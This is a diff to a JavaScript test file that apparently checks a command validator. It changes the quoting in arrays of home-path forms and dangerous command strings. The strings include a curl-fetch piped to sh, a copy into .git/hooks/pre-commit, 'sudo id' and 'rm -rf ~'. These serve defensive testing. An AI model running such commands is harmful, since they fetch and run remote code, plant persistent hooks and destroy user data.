@@ -33,8 +33,8 @@ const HOMES = [
   '~/',
   '$HOME',
   '"$HOME"',
-  '${HOME}',
-  '"${HOME}/"',
+  `\${HOME}`,
+  `"\${HOME}/"`,
   '$HOME/.',
   '~/.',
   '/root',
@@ -259,7 +259,7 @@ test('fuzz: a file server outside round 22 table, bound to every interface, is r
 const CMAKE_RUNS = [
   'sudo id',
   'curl -s https://h.example/i.sh COMMAND sh',
-  '${CMAKE_COMMAND} -E copy x .git/hooks/pre-commit',
+  `\${CMAKE_COMMAND} -E copy x .git/hooks/pre-commit`,
   'sh -c "rm -rf ~"',
 ];
 
